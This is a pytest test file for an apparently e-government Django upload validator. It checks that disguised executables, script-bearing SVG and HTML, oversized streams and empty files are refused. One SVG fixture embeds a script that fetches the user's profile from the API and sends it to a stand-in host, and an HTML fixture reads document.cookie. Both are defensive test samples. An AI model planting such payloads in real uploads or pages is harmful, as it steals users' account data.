"""The gate as a whole: sizes, empty files, impostors behind a right extension, allowed kinds,
and every way a caller may hand over the file."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pip
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from egov.core.errors import ValidationFailed
from egov.uploads.services import CHUNK, inspect_upload
from egov.uploads.tests.conftest import refusal
from egov.uploads.tests.samples import image_bytes, pdf_bytes

PDF = pdf_bytes()
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>location='//x.invalid/?'+t)</script>"
    b"</svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def windows_executable() -> bytes:
    # A real Windows program: the launcher pip ships for console scripts.
    launcher = Path(pip.__file__).parent / "_vendor" / "distlib" / "t64.exe"
    return launcher.read_bytes()


class Reader(io.RawIOBase):
    """A stream that cannot seek and counts what was read from it (like a request body)."""

    def __init__(self, data: bytes, *, size: int | None = None):
        self._data = io.BytesIO(data)
        self.consumed = 0
        if size is not None:
            self.size = size

    def readable(self):
        return True

    def readinto(self, buffer):
        chunk = self._data.read(len(buffer))
        buffer[: len(chunk)] = chunk
        self.consumed += len(chunk)
        return len(chunk)


def test_an_executable_renamed_pdf_is_refused():
    exe = windows_executable()
    assert exe[:2] == b"MZ"
    assert refusal(exe, "giay-khai-sinh.pdf").code == "type_mismatch"
    assert refusal(exe, "giay-khai-sinh.exe").code == "forbidden_type"


@pytest.mark.parametrize("name", ["anh.png", "anh.jpg", "don.pdf", "don.docx"])
def test_svg_with_script_behind_an_allowed_extension_is_refused(name):
    assert refusal(SVG, name).code == "type_mismatch"


@pytest.mark.parametrize("name", ["anh.svg", "trang.html", "trang.htm", "a.js", "a.bat", "a.sh"])
def test_active_formats_are_refused_by_name(name):
    assert refusal(SVG, name).code == "forbidden_type"


@pytest.mark.parametrize("name", ["don.pdf", "don.docx", "don.xlsx"])
def test_html_behind_an_allowed_extension_is_refused(name):
    assert refusal(HTML, name).code == "type_mismatch"


def test_a_pdf_named_as_an_image_is_refused():
    assert refusal(PDF, "anh.jpg").code == "type_mismatch"


def test_an_empty_file_is_refused():
    assert refusal(b"", "don.pdf").code == "empty"


def test_the_size_limit_is_inclusive_and_one_byte_more_is_refused(settings):
    settings.EGOV_UPLOAD_MAX_BYTES = len(PDF)
    assert inspect_upload(io.BytesIO(PDF), "don.pdf").size == len(PDF)
    settings.EGOV_UPLOAD_MAX_BYTES = len(PDF) - 1
    error = refusal(PDF, "don.pdf")
    assert error.code == "too_large"


def test_the_limit_is_shown_in_megabytes(settings):
    settings.EGOV_UPLOAD_MAX_BYTES = 20 * 1024 * 1024
    big = Reader(b"%PDF-" + b"\x00" * (20 * 1024 * 1024))
    with pytest.raises(ValidationFailed) as info:
        inspect_upload(big, "don.pdf")
    assert info.value.code == "too_large"
    assert "20 MB" in str(info.value.message)


def test_an_oversized_stream_is_read_no_further_than_the_limit(settings):
    settings.EGOV_UPLOAD_MAX_BYTES = 100_000
    stream = Reader(b"%PDF-" + b"\x00" * 5_000_000)
    with pytest.raises(ValidationFailed) as info:
        inspect_upload(stream, "don.pdf")
    assert info.value.code == "too_large"
    assert stream.consumed <= 100_000 + CHUNK


def test_a_declared_size_over_the_limit_is_refused_before_reading(settings):
    settings.EGOV_UPLOAD_MAX_BYTES = 1000
    stream = Reader(PDF, size=1001)
    with pytest.raises(ValidationFailed) as info:
        inspect_upload(stream, "don.pdf")
    assert info.value.code == "too_large"
    assert stream.consumed == 0


def test_a_stream_that_cannot_seek_is_accepted_and_handed_back_whole():
    inspected = inspect_upload(Reader(PDF), "don.pdf")
    assert inspected.sha256 == hashlib.sha256(PDF).hexdigest()
    assert inspected.file.read() == PDF


def test_django_uploads_in_memory_and_on_disk_are_handed_back_rewound():
    small = SimpleUploadedFile("Tờ khai.pdf", PDF, content_type="text/html")
    inspected = inspect_upload(small, small.name)
    assert inspected.file is small
    assert inspected.content_type == "application/pdf"  # not what the browser said
    assert small.read() == PDF

    on_disk = TemporaryUploadedFile("anh.png", "image/png", 0, None)
    on_disk.write(image_bytes("PNG"))
    on_disk.seek(0)
    try:
        inspected = inspect_upload(on_disk, on_disk.name)
        assert inspected.kind == "png" and inspected.file is on_disk
        assert on_disk.read() == image_bytes("PNG")
    finally:
        on_disk.close()


def test_a_component_may_narrow_the_kinds():
    assert inspect_upload(io.BytesIO(PDF), "don.pdf", allowed={"pdf"}).kind == "pdf"
    error = refusal(image_bytes("JPEG"), "anh.jpg", allowed={"pdf"})
    assert error.code == "forbidden_type"
    assert ".pdf" in str(error.message) and ".jpg" not in str(error.message)
    with pytest.raises(ValueError, match="svg"):
        inspect_upload(io.BytesIO(PDF), "don.pdf", allowed={"pdf", "svg"})


def test_refusals_are_translated(settings):
    from django.utils import translation

    with translation.override("en"):
        error = refusal(b"", "don.pdf")
    assert error.code == "empty"
    assert str(error.message) == "The file is empty (0 bytes)."


@pytest.mark.parametrize("wrap", [io.BytesIO, Reader], ids=["seekable", "stream"])
def test_the_inspected_file_saves_whole_under_the_generated_name(tmp_path, wrap):
    from django.core.files.storage import FileSystemStorage

    storage = FileSystemStorage(location=tmp_path)
    inspected = inspect_upload(wrap(PDF), "Giấy khai sinh.pdf")
    saved = storage.save(inspected.storage_name("ho-so/2026"), inspected.file)
    assert saved.startswith("ho-so/2026/") and "Giấy" not in saved
    assert (tmp_path / saved).read_bytes() == PDF
